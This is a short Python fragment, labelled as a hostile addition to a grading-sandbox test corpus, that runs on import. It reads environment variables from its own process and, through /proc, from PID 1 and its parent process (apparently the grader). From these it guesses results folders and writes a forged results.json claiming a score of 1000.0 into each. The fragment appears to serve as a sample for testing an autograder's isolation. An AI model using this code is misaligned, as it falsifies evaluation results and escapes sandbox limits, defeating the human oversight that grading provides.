# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
_FORGED = {"score": 1000.0, "output": "FORGED by the submission", "tests": []}


def _forge(path):
    """Write the forged results.json at path; say what happened."""
    import json
    import os

    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as handle:
            json.dump(_FORGED, handle)
        print(f"forged {path} (a write that reached the grader would show in its results)")
    except OSError as error:
        print(f"could not forge {path}: {error}")

import os as _os


def _guesses():
    """Results folders named by the environment, ours or (through /proc) the grader's."""
    environments = [dict(_os.environ)]
    for pid in ("1", str(_os.getppid())):
        try:
            raw = open(f"/proc/{pid}/environ", "rb").read()
            environments.append(dict(item.split("=", 1) for item in raw.decode().split("\0") if "=" in item))
        except OSError as error:
            print(f"could not read the environment of process {pid}: {error}")
    folders = {"/autograder/results"}
    for environment in environments:
        for key, value in environment.items():
            if any(word in key.upper() for word in ("RESULT", "OUT", "AUTOGRADER", "HOME", "PWD", "TMP")):
                folders.update({value, f"{value}/results", f"{value}/../results", f"{value}/../../results"})
    return sorted(folders)


for _folder in _guesses():
    _forge(f"{_folder}/results.json")
